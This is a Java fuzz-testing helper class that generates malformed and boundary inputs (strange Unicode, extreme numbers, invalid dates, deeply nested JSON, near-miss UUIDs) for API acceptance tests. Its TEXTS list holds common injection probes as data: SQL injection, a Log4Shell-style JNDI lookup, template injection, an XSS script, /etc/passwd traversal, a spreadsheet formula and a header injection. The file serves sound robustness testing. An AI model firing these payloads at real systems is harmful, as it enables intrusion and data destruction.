package org.solidarites.acceptance.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Values that are nearly right, at a limit and past it, or nothing that anybody expects. */
final class Values {

    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\t\n",
            "\0",
            "a\0b",
            "\ud800",
            "\udc00\ud800",
            "\uffff",
            "\u202eetsac\u202c",
            "\u200b",
            "\ufeffx",
            "\u2028",
            "e\u0301".repeat(300),
            "👩‍👩‍👧‍👦".repeat(40),
            "１２３",
            "İstanbul ß ﬁ",
            "a\r\nX-Injected: yes",
            "'; DROP TABLE guichet; --",
            "' OR '1'='1",
            "%' OR 1=1 --",
            "\\",
            "\"",
            "%",
            "_%_",
            "${jndi:ldap://nowhere.invalid/x}",
            "{{7*7}}",
            "#{1+1}",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "%00",
            "null",
            "undefined",
            "true",
            "NaN",
            "-1",
            "=cmd|' /C calc'!A0",
            "x".repeat(256),
            "x".repeat(10_001),
            "(".repeat(3_000),
            "é".repeat(70_000));

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-0.0",
            "-1",
            "1",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9007199254740993",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1e400",
            "-1e400",
            "1e-400",
            "1e999999999",
            "1e-999999999",
            "1e2147483648",
            "0.1",
            "0.001",
            "1.005",
            "1.00000000000000000000000000001",
            "123456789012345678901234567890",
            "99999999999.99",
            "1E+2",
            "NaN",
            "Infinity",
            "0x10",
            "01",
            "+1",
            ".5",
            "1.",
            "9".repeat(1_500));

    static final List<String> TIMES = List.of(
            "2026-02-31",
            "2026-02-29",
            "2026-13-01",
            "2026-00-10",
            "0000-01-01",
            "-0001-12-31",
            "1582-10-10",
            "-4713-01-01",
            "9999-12-31",
            "10000-01-01",
            "+10000-01-01",
            "294277-01-01",
            "+999999999-12-31",
            "-999999999-01-01",
            "2026-1-1",
            "20260101",
            "01/02/2026",
            "2026-W01-1",
            "2026-001",
            "2026-12",
            "2026-12-31T23:59:60Z",
            "2026-12-31T24:00:00Z",
            "2026-03-29T02:30:00",
            "2026-03-29T02:30:00+01:00",
            "2026-01-01T00:00:00+18:00",
            "2026-01-01T00:00:00+19:00",
            "2026-01-01T00:00:00.1234567891234Z",
            "2026-01-01T00:00:00[Europe/Paris]",
            "2026-01-01 00:00:00Z",
            "0001-01-01T00:00:00+18:00",
            "9999-12-31T23:59:59-18:00",
            "+999999999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "25:00",
            "24:00",
            "12:60",
            "9:00",
            "12:00:60",
            "P1Y",
            "PT-1H",
            "-1");

    private static final List<String> OTHER_TYPES = List.of(
            "null",
            "true",
            "\"text\"",
            "1",
            "1.5",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "[{}]",
            "{\"a\": {\"b\": 1}}",
            "\"\"");

    private final Api api;
    private final Ids ids;

    Values(Api api, Ids ids) {
        this.api = api;
        this.ids = ids;
    }

    /** A value in the place of one of this schema, as it stands in JSON (or would, if it were any). */
    String literal(JsonNode told, Random random) {
        JsonNode schema = api.meant(told);
        String type = type(schema);
        if (random.nextInt(5) == 0) {
            return pick(OTHER_TYPES, random);
        }
        return switch (type) {
            case "integer", "number" -> random.nextInt(3) == 0 ? atLimit(schema, random) : pick(NUMBERS, random);
            case "array" -> array(schema, random);
            case "object" -> random.nextBoolean() ? "{}" : deep(random);
            case "boolean" -> pick(List.of("\"true\"", "1", "\"\"", "null", "[]", "TRUE"), random);
            default -> quoted(text(schema, random));
        };
    }

    /** A text in the place of one of this schema: in a body, or as a parameter. */
    String text(JsonNode told, Random random) {
        JsonNode schema = api.meant(told);
        if (schema.has("enum") && random.nextInt(3) > 0) {
            return nearly(
                    schema.path("enum")
                            .path(random.nextInt(schema.path("enum").size()))
                            .asText(),
                    random);
        }
        if (type(schema).equals("integer") || type(schema).equals("number")) {
            return random.nextInt(3) == 0 ? atLimit(schema, random) : pick(NUMBERS, random);
        }
        String format = schema.path("format").asText();
        if (format.equals("uuid") && random.nextInt(3) > 0) {
            return id(random);
        }
        if ((format.startsWith("date") || format.contains("time")) && random.nextInt(4) > 0) {
            return pick(TIMES, random);
        }
        if (schema.has("maxLength") && random.nextInt(3) == 0) {
            int length = Math.max(0, schema.path("maxLength").asInt() + random.nextInt(3) - 1);
            return (random.nextBoolean() ? "x" : "😀").repeat(Math.min(length, 100_000));
        }
        return switch (random.nextInt(8)) {
            case 0 -> pick(TIMES, random);
            case 1 -> id(random);
            default -> pick(TEXTS, random);
        };
    }

    /** Ids that are nearly one, that nobody has, and that somebody else has. */
    String id(Random random) {
        String known = ids.any(random);
        return switch (random.nextInt(10)) {
            case 0 -> known.toUpperCase(java.util.Locale.ROOT);
            case 1 -> known.replace("-", "");
            case 2 -> "{" + known + "}";
            case 3 -> known.substring(0, known.length() - 1);
            case 4 -> known + "0";
            case 5 -> "00000000-0000-0000-0000-000000000000";
            case 6 -> "ffffffff-ffff-ffff-ffff-ffffffffffff";
            case 7 -> "1-1-1-1-1";
            case 8 -> "urn:uuid:" + known;
            default -> known;
        };
    }

    private String array(JsonNode schema, Random random) {
        String item = random.nextBoolean() ? literal(schema.path("items"), random) : pick(OTHER_TYPES, random);
        return switch (random.nextInt(6)) {
            case 0 -> "[]";
            case 1 -> "[" + item + "]";
            case 2 -> "[" + item + ", " + item + "]";
            case 3 -> many(item.length() > 100 ? "null" : item, 1_000);
            case 4 -> many("0", 100_000);
            default -> "[".repeat(400) + "]".repeat(400);
        };
    }

    static String many(String item, int times) {
        return "[" + (item + ",").repeat(times - 1) + item + "]";
    }

    static String deep(Random random) {
        int depth = pick(List.of(50, 900, 20_000), random);
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String atLimit(JsonNode schema, Random random) {
        List<String> limits = new ArrayList<>();
        Stream.of("minimum", "maximum", "exclusiveMinimum", "exclusiveMaximum")
                .map(schema::path)
                .filter(JsonNode::isNumber)
                .forEach(limit -> {
                    limits.add(limit.decimalValue()
                            .subtract(java.math.BigDecimal.ONE)
                            .toPlainString());
                    limits.add(limit.decimalValue().toPlainString());
                    limits.add(
                            limit.decimalValue().add(java.math.BigDecimal.ONE).toPlainString());
                    limits.add(limit.decimalValue()
                            .add(new java.math.BigDecimal("0.01"))
                            .toPlainString());
                });
        return limits.isEmpty() ? pick(NUMBERS, random) : pick(limits, random);
    }

    private static String nearly(String value, Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> value.toLowerCase(java.util.Locale.ROOT);
            case 1 -> " " + value;
            case 2 -> value + ",";
            case 3 -> value.substring(0, value.length() - 1);
            case 4 -> "0";
            default -> value.replace('I', 'İ').replace('S', 'ſ').replace('K', 'K');
        };
    }

    private static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode one : type) {
                if (!one.asText().equals("null")) {
                    return one.asText();
                }
            }
        }
        return type.asText(schema.has("properties") ? "object" : "string");
    }

    /** As JSON, with characters that are none written as they are escaped. */
    static String quoted(String text) {
        StringBuilder whole = new StringBuilder(TextNode.valueOf(text).toString());
        for (int i = whole.length() - 1; i >= 0; i--) {
            if (Character.isSurrogate(whole.charAt(i)) && !isPaired(whole, i)) {
                whole.replace(i, i + 1, "\\u%04x".formatted((int) whole.charAt(i)));
            }
        }
        return whole.toString();
    }

    private static boolean isPaired(CharSequence text, int at) {
        return Character.isHighSurrogate(text.charAt(at))
                ? at + 1 < text.length() && Character.isLowSurrogate(text.charAt(at + 1))
                : at > 0 && Character.isHighSurrogate(text.charAt(at - 1));
    }

    static <T> T pick(List<T> all, Random random) {
        return all.get(random.nextInt(all.size()));
    }
}
